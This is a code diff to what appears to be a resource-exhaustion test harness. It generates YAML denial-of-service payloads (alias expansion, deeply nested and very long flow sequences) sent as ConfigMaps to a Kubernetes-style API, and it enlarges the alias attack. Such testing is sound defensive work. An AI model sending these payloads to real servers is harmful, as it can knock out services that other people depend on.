@@ -53,8 +53,7 @@ def _patch(body: Any, media: str, path: str = "configmaps/large", options: str =
 
 
 def _aliases(n: int) -> bytes:
-    lines = (f"  b{i}: [{','.join(['*a'] * 30)}]\n" for i in range(n))
-    return f"{_HEAD}data:\n  a: &a [{','.join('x' * 100)}]\n{''.join(lines)}".encode()
+    return f"{_HEAD}data:\n  a: &a [{'x,' * n}]\n  b: [{'*a,' * 95}]\n".encode()
 
 
 _HEAD = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: y}\n"
@@ -99,7 +98,7 @@ def _keys(n: int, value: str = "1") -> str:
 
 
 ATTACKS = [
-    Attack("yaml-aliases", 2_000, lambda n: _create(_aliases(n), "application/yaml")),
+    Attack("yaml-aliases", 60_000, lambda n: _create(_aliases(n), "application/yaml")),
     Attack("yaml-plain", 40_000, lambda n: _create(f"{_HEAD}{_lines(n)}".encode(), "application/yaml")),
     Attack("yaml-flow", 100_000, lambda n: _create(f"{_HEAD}data: [{'a,' * n}]".encode(), "application/yaml")),
     Attack("yaml-nested-flow", 40_000, lambda n: _create(f"{_HEAD}data: {'[' * n}".encode(), "application/yaml")),
